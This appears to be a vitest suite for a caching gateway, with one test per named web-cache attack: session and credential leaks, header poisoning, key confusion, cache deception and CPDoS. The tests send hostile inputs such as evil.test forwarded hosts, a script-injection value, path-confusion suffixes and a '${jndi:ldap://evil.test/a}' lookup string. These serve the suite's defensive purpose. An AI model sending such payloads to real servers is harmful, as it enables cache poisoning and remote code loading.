// What goes wrong in shared caches in front of people: one test for each attack, by its name.
import { describe, expect, onTestFinished, test, vi } from 'vitest';
import { startBackend, startRawBackend } from '../support/backend.ts';
import { type Answer, type RequestOptions, request } from '../support/client.ts';
import { startGateway } from '../support/world.ts';
import { bodies, numbered, startScene } from './scene.ts';

const LONG = { 'cache-control': 'max-age=600' };

describe('session leak', () => {
  test.for(['max-age=600', 'public, max-age=600', 's-maxage=600', 'immutable, max-age=600'])(
    'an answer that sets a cookie is for nobody else: %s',
    async (control) => {
      const { get } = await startScene(numbered({ 'cache-control': control, 'set-cookie': 'session=1' }));
      expect(bodies([await get('/a'), await get('/a')])).toEqual(['answer 1', 'answer 2']);
    },
  );

  test('who comes with a cookie leaves nothing for others, and gets nothing of theirs', async () => {
    const { get } = await startScene(numbered(LONG));
    await get('/a', { cookie: 'session=ann' });
    expect((await get('/a')).body).toBe('answer 2');
    expect((await get('/a', { cookie: 'session=ann' })).body).toBe('answer 3');
    expect((await get('/a')).body).toBe('answer 2');
  });

  test('but for what says that it is public, and where the site says that cookies make no difference', async () => {
    const open = await startScene(numbered({ 'cache-control': 'public, max-age=600' }));
    await open.get('/a', { cookie: 'session=ann' });
    expect((await open.get('/a')).body).toBe('answer 1');
    const ignoring = await startScene(numbered(LONG), { site: 'cache: { cookies: ignore }' });
    await ignoring.get('/a', { cookie: 'session=ann' });
    expect((await ignoring.get('/a', { cookie: 'session=bob' })).body).toBe('answer 1');
  });

  test("the gateway's own cookie is no obstacle, and reaches one client only", async () => {
    const backend = await startBackend(numbered(LONG));
    const world = await startGateway(`upstreams: { app: { servers: "${backend.url}", sticky: { cookie: gh_node } } }
sites: { localhost: { to: app, cache: true } }`);
    const get = (path: string, headers: RequestOptions['headers'] = {}): Promise<Answer> =>
      request('http/1.1', world, { path, headers });
    const first = await get('/a');
    const cookie = String(first.headers['set-cookie']).split(';', 1)[0] as string;
    expect(cookie).toMatch(/^gh_node=/);
    const second = await get('/a');
    expect([second.body, second.headers['set-cookie']]).toEqual(['answer 1', undefined]);
    expect((await get('/a', { cookie })).body).toBe('answer 1');
    expect((await get('/a', { cookie: `${cookie}; session=1` })).body).toBe('answer 2');
  });
});

describe('credential leak', () => {
  test.for([
    ['max-age=600', false],
    ['public, max-age=600', true],
    ['s-maxage=600', true],
    ['must-revalidate, max-age=600', true],
  ] as const)('an answer to a request with Authorization, %s: shared %s', async ([control, isShared]) => {
    const { get } = await startScene(numbered({ 'cache-control': control }));
    await get('/a', { authorization: 'Bearer ann' });
    expect((await get('/a')).body).toBe(isShared ? 'answer 1' : 'answer 2');
    expect((await get('/a', { authorization: 'Bearer bob' })).body).toBe(isShared ? 'answer 1' : 'answer 3');
  });

  test.for(['private', 'PRIVATE', 'private="set-cookie', 'no-store', 'No-Store', 'max-age=600, private', 'private;'])(
    '%s is for one',
    async (word) => {
      const { get } = await startScene(numbered({ 'cache-control': `max-age=600, ${word}` }));
      expect(bodies([await get('/a'), await get('/a')])).toEqual(['answer 1', 'answer 2']);
    },
  );

  test.for(['x-api-key', 'X-Auth-Token', 'private-token'])('who has a key is somebody: %s', async (name) => {
    const { backend, get } = await startScene(numbered({ 'cache-control': 'max-age=600' }));
    await get('/a', { [name]: 'k' });
    await get('/a');
    await get('/a', { [name]: 'other' });
    expect(backend.seen.length).toBe(3);
  });

  test('who was signed in by a trusted proxy is somebody', async () => {
    const file = 'trustedProxies: [127.0.0.1]';
    const { get } = await startScene(numbered(LONG), { file });
    await get('/a', { 'x-forwarded-user': 'ann' });
    expect((await get('/a', { 'x-forwarded-user': 'bob' })).body).toBe('answer 2');
    expect((await get('/a')).body).toBe('answer 3');
  });
});

describe('poisoning by what is not in the key', () => {
  test('unkeyed forwarding headers', async () => {
    const { get } = await startScene(({ headers, url }, response) => {
      response.setHeader('cache-control', 'max-age=600');
      response.end(`saw ${String(headers[url.slice(1)])}`);
    });
    for (const [name, value] of [
      ['x-forwarded-host', 'evil.test'],
      ['x-forwarded-proto', 'ftp'],
      ['x-forwarded-scheme', 'nothttps'],
      ['x-forwarded-prefix', '/evil'],
      ['x-original-url', '/evil'],
      ['x-rewrite-url', '/evil'],
      ['x-host', 'evil.test'],
      ['x-http-host-override', 'evil.test'],
      ['x-forwarded-server', 'evil.test'],
      ['forwarded', 'host=evil.test'],
      ['x-forwarded-port', '1'],
      ['true-client-ip', '"><script>'],
    ] as const) {
      await get(`/${name}`, { [name]: value });
      expect((await get(`/${name}`)).body).not.toContain(value);
    }
  });

  test('what a trusted proxy says of host and scheme is in the key', async () => {
    const { get } = await startScene(
      ({ headers }, response) => {
        response.setHeader('cache-control', 'max-age=600');
        response.end(`https://${String(headers['x-forwarded-host'])}/`);
      },
      { file: 'trustedProxies: [127.0.0.1]' },
    );
    await get('/a', { 'x-forwarded-host': 'other.test' });
    expect((await get('/a')).body).toBe('https://localhost/');
    expect((await get('/a', { 'x-forwarded-host': 'other.test' })).headers['cache-status']).toMatch(/hit/);
  });

  test.for(['x-http-method-override', 'x-http-method', 'x-method-override'])('method override: %s', async (name) => {
    const { get } = await startScene(numbered(LONG));
    await get('/a', { [name]: 'DELETE' });
    expect((await get('/a')).body).toBe('answer 2');
    expect((await get('/a', { [name]: 'DELETE' })).body).toBe('answer 3');
    expect((await get('/a')).body).toBe('answer 4');
  });

  test('fat GET: a body is not in the key', async () => {
    const { get } = await startScene(numbered(LONG));
    const fat = { 'content-length': '6' };
    await get('/a', fat, { body: 'q=evil' });
    expect((await get('/a')).body).toBe('answer 2');
    expect((await get('/a', fat, { body: 'q=evil' })).body).toBe('answer 3');
  });

  test('hop-by-hop abuse: a field that Connection keeps from the backend chooses no stored answer', async () => {
    const { get } = await startScene(({ headers }, response) => {
      response.setHeader('cache-control', 'max-age=600');
      response.setHeader('vary', 'x-lang');
      response.end(`in ${String(headers['x-lang'] ?? 'no language')}`);
    });
    for (const connection of ['x-lang', 'close, X-Lang', 'keep-alive,x-lang ,upgrade']) {
      await get('/a', { 'x-lang': 'de', connection });
      await get('/a', { 'x-lang': 'en', connection: 'keep-alive' });
    }
    expect((await get('/a', { 'x-lang': 'de' })).body).toBe('in de');
    expect((await get('/a', { 'x-lang': 'en', connection: 'close' })).headers['cache-status']).toMatch(/hit/);
  });

  test.for(['x-client-ip', 'true-client-ip', 'x-remote-user'])(
    'a claim that only a trusted proxy may make: %s',
    async (name) => {
      const { backend, get } = await startScene(numbered({ ...LONG, vary: name }));
      await get('/a', { [name]: 'somebody' });
      await get('/a', { [name]: 'somebody' });
      expect(backend.seen.length).toBe(2);
    },
  );

  test('CORS: an answer that one other site may read is for requests from there, also without Vary', async () => {
    const { get } = await startScene(({ headers }, response) => {
      response.setHeader('cache-control', 'max-age=600');
      if (headers.origin !== undefined) response.setHeader('access-control-allow-origin', headers.origin);
      response.end('x');
    });
    const allowed = async (origin: string): Promise<unknown> =>
      (await get('/a', { origin })).headers['access-control-allow-origin'];
    expect(await allowed('https://evil.test')).toBe('https://evil.test');
    expect(await allowed('https://good.test')).toBe('https://good.test');
  });

  test('what Vary names is compared as it is where a comma is no list', async () => {
    const { backend, get } = await startScene(numbered({ ...LONG, vary: 'user-agent' }));
    await get('/a', { 'user-agent': 'a (KHTML, like b)' });
    await get('/a', { 'user-agent': 'a (KHTML,like b)' });
    expect(backend.seen.length).toBe(2);
  });

  test('port in the host', async () => {
    const { get } = await startScene(({ headers }, response) => {
      response.setHeader('cache-control', 'max-age=600');
      response.end(`//${headers.host}/`);
    });
    await get('/a', { host: 'localhost:1' });
    expect((await get('/a')).body).toBe('//localhost/');
  });

  test('aliases and other hosts of a site', async () => {
    const { world, backend } = await startScene(numbered(LONG), { site: 'aliases: [two.test], cache: true' });
    const over = { ...world };
    await request('http/1.1', over, { path: '/a' });
    await request('http/1.1', over, { path: '/a', host: 'two.test' });
    expect(backend.seen.length).toBe(2);
  });

  test('routes by other things than the URL keep apart', async () => {
    const { get } = await startScene(numbered(LONG), {
      site: 'cache: true, routes: [{ match: { header: { x-beta: "1" } }, headers: { response: { set: { x-a: b } } } }]',
    });
    await get('/a', { 'x-beta': '1' });
    expect((await get('/a')).body).toBe('answer 2');
    expect((await get('/a', { 'x-beta': '1' })).body).toBe('answer 1');
  });

  test('an answer that depends on the client by Vary', async () => {
    let count = 0;
    const { get } = await startScene(({ url }, response) => {
      response.setHeader('cache-control', 'max-age=600');
      response.setHeader('vary', decodeURIComponent(url.slice(1)));
      response.end(String(++count));
    });
    for (const name of ['x-forwarded-for', 'x-real-ip', 'forwarded', 'X-Request-ID', 'x-client-cert-subject', '*']) {
      const path = `/${name}`;
      const [first, second] = [await get(path), await get(path)];
      expect([name, first.body === second.body]).toEqual([name, false]);
    }
  });
});

describe('key confusion', () => {
  test('two resources are two', async () => {
    const { get } = await startScene(({ url }, response) => {
      response.setHeader('cache-control', 'max-age=600');
      response.end(url);
    });
    const pairs = [
      ['parameter cloaking', '/a?x=1&y=2', '/a?x=1;y=2'],
      ['parameter cloaking by order', '/a?x=1&y=2', '/a?y=2&x=1'],
      ['a parameter twice', '/a?x=1', '/a?x=1&x=2'],
      ['an empty query', '/a', '/a?'],
      ['an encoded question mark', '/a?x=1', '/a%3Fx=1'],
      ['an encoded ampersand', '/a?x=1&y=2', '/a?x=1%26y=2'],
      ['a marketing parameter', '/a', '/a?utm_content=x;callback=evil'],
      ['an encoded slash', '/a/b', '/a%2Fb'],
      ['path parameters', '/a', '/a;x=1'],
      ['letters of another case', '/a', '/A'],
      ['a slash at the end', '/a', '/a/'],
      ['plus and space', '/a?x=+', '/a?x=%20'],
    ] as const;
    for (const [index, [name, one, other]] of pairs.entries()) {
      const at = (target: string): string => `/${index}${target}`;
      const [first, second] = [await get(at(one)), await get(at(other))];
      expect([name, first.body === second.body]).toEqual([name, false]);
      expect([name, (await get(at(one))).body, (await get(at(other))).body]).toEqual([name, first.body, second.body]);
    }
  });

  test.for([
    ['dot segments', '/x/../a'],
    ['encoded letters', '/%61'],
    ['slashes', '//a'],
  ] as const)('path confusion by %s: one resource, as the backend sees it', async ([, spelling]) => {
    const { backend, get } = await startScene(numbered(LONG));
    await get('/a');
    await get(spelling);
    expect(backend.seen.map(({ url }) => url)).toEqual(['/a']);
  });

  test('a backend that sees the spelling of the client has an answer for each', async () => {
    const { backend, get } = await startScene(numbered(LONG), { site: 'cache: true, path: original' });
    await get('/a');
    await get('/%61');
    await get('/%61');
    expect(backend.seen.map(({ url }) => url)).toEqual(['/a', '/%61']);
  });
});

describe('cache deception', () => {
  test('a personal page is not stored for its suffix', async () => {
    const { get } = await startScene(({ headers }, response) => response.end(`page of ${headers.cookie ?? 'nobody'}`), {
      site: 'cache: { ttl: 1h }',
    });
    for (const tail of [
      '/x.css',
      '/x.js',
      '/x.png',
      ';x.css',
      '%2Fx.css',
      '%3Fx.css',
      '%23x.css',
      '%0Ax.css',
      '%00x.css',
      '/..%2Fx.css',
    ]) {
      await get(`/account${tail}`, { cookie: 'session=ann' });
      expect([tail, (await get(`/account${tail}`)).body]).not.toEqual([tail, expect.stringContaining('ann')]);
    }
  });
});

describe('error poisoning (CPDoS)', () => {
  test('an error without a word is not stored', async () => {
    const { backend, get } = await startScene(({ url }, response) => response.writeHead(Number(url.slice(1))).end(), {
      site: 'cache: { ttl: 1h }',
    });
    for (const status of [400, 403, 404, 405, 413, 414, 431, 500, 501, 502, 503]) {
      const before = backend.seen.length;
      await get(`/${status}`, { 'x-odd': 'y' });
      await get(`/${status}`);
      expect([status, backend.seen.length - before]).toEqual([status, 2]);
    }
  });

  test('a truncated answer is not stored', async () => {
    let isFirst = true;
    const backend = await startRawBackend((socket) => {
      socket.once('data', () => {
        const head = 'HTTP/1.1 200 OK\r\ncache-control: max-age=600\r\n';
        if (isFirst) socket.end(`${head}transfer-encoding: chunked\r\n\r\n5\r\nhalf!\r\n`);
        else socket.end(`${head}content-length: 5\r\n\r\nwhole`);
        isFirst = false;
      });
    });
    const world = await startGateway(`sites: { localhost: { to: "${backend.url}", cache: true } }`);
    await expect(request('http/1.1', world)).rejects.toThrow();
    expect((await request('http/1.1', world)).body).toBe('whole');
  });

  test('nor what only the end of its connection ends, which a cut looks like too', async () => {
    const parts = ['half', 'whole'];
    const backend = await startRawBackend((socket) => {
      socket.once('data', () => socket.end(`HTTP/1.1 200 OK\r\ncache-control: max-age=600\r\n\r\n${parts.shift()}`));
    });
    const world = await startGateway(`sites: { localhost: { to: "${backend.url}", cache: true } }`);
    const answers = [await request('h2', world), await request('h2', world)];
    expect(bodies(answers)).toEqual(['half', 'whole']);
    expect(answers[0]?.headers['cache-status']).toBe('gatehouse; fwd=uri-miss');
  });

  test('a 304 to a client that has something is not stored for those who have nothing', async () => {
    const { get } = await startScene(({ headers }, response) => {
      response.setHeader('cache-control', 'max-age=600');
      response.setHeader('etag', '"1"');
      if (headers['if-none-match'] === '"1"') response.writeHead(304).end();
      else response.end('whole');
    });
    expect((await get('/a', { 'if-none-match': '"1"' })).status).toBe(304);
    const next = await get('/a');
    expect([next.status, next.body]).toEqual([200, 'whole']);
  });

  test.for([
    ['416', 416, { range: 'bytes=1000-' }],
    ['412', 412, { range: 'bytes=0-1', 'if-range': '"x"' }],
    ['400', 400, { range: 'bytes=0-1,0-1,0-1' }],
    ['404', 404, { 'if-none-match': '*' }],
  ] as const)('what a range or condition has brought about is for nobody else: %s', async ([, status, odd]) => {
    const { get } = await startScene(({ headers }, response) => {
      response.setHeader('cache-control', 'max-age=600');
      const isOdd = (headers.range ?? headers['if-none-match']) !== undefined;
      response.writeHead(isOdd ? status : 200).end(isOdd ? 'refused' : 'whole');
    });
    expect((await get('/a', odd)).status).toBe(status);
    expect((await get('/a')).body).toBe('whole');
  });

  test('nor does it take the place of what is stored and cannot be asked about', async () => {
    const { backend, get } = await startScene(({ headers }, response) => {
      response.setHeader('cache-control', 'max-age=60, stale-while-revalidate=600');
      const { range } = headers;
      response.writeHead(range === undefined ? 200 : 416).end(range === undefined ? 'whole' : 'refused');
    });
    await get('/a');
    vi.useFakeTimers({ toFake: ['Date'], now: Date.now() + 61_000 });
    onTestFinished(() => void vi.useRealTimers());
    expect((await get('/a', { range: 'bytes=1000-' })).status).toBe(416);
    await vi.waitFor(() => expect(backend.seen.length).toBe(2));
    expect([backend.seen[1]?.headers.range, (await get('/a')).body]).toEqual([undefined, 'whole']);
  });

  test('a part is not stored for those who want the whole', async () => {
    const { get } = await startScene(({ headers }, response) => {
      response.setHeader('cache-control', 'max-age=600');
      if (headers.range === undefined) response.end('whole');
      else response.writeHead(206, { 'content-range': 'bytes 0-1/5' }).end('wh');
    });
    expect((await get('/a', { range: 'bytes=0-1' })).body).toBe('wh');
    expect((await get('/a')).body).toBe('whole');
  });

  test('range bomb: many ranges at once get the whole', async () => {
    const { get } = await startScene(numbered(LONG));
    await get('/a');
    const ranges = Array.from({ length: 5 }, () => '0-').join(',');
    const answer = await get('/a', { range: `bytes=${ranges}` });
    expect([answer.status, answer.body]).toEqual([200, 'answer 1']);
  });
});

test('Accept-Encoding has one form: no spelling is a variant of its own, and the backend sees what the key has', async () => {
  const { backend, get } = await startScene(numbered({ ...LONG, vary: 'accept-encoding' }));
  for (const spelling of ['gzip, br', 'br;q=1.0, gzip;q=0.5', 'GZIP,BR', 'br, gzip, compress, zstd;q=0'])
    expect((await get('/a', { 'accept-encoding': spelling })).body).toBe('answer 1');
  expect((await get('/a', { 'accept-encoding': 'x-evil' })).body).toBe('answer 2');
  expect(backend.seen.map(({ headers }) => headers['accept-encoding'])).toEqual(['br, gzip', 'identity']);
});

test('an encoded answer that forgets to say Vary is for those who take the same codings', async () => {
  const { get } = await startScene(numbered({ ...LONG, 'content-encoding': 'x-own' }));
  await get('/a', { 'accept-encoding': 'gzip' });
  expect((await get('/a')).body).toBe('answer 2');
  expect((await get('/a', { 'accept-encoding': 'gzip' })).body).toBe('answer 1');
});

describe('what stands before the cache sees every request', () => {
  test('access', async () => {
    const { get } = await startScene(numbered(LONG), { site: 'cache: true, access: { deny: [127.0.0.1] }' });
    expect((await get('/a')).status).toBe(403);
  });

  test('limits', async () => {
    const { get } = await startScene(numbered(LONG), { site: 'cache: true, limits: [{ rate: 2/h }]' });
    const statuses = [await get('/a'), await get('/a'), await get('/a')].map(({ status }) => status);
    expect(statuses).toEqual([200, 200, 429]);
  });

  test('rules', async () => {
    const { get } = await startScene(numbered(LONG), { site: 'cache: true, waf: { rules: [core] }' });
    await get('/a');
    expect((await get('/a')).headers['cache-status']).toMatch(/hit/);
    expect((await get('/a', { 'x-a': '${jndi:ldap://evil.test/a}' })).status).toBe(403);
  });
});
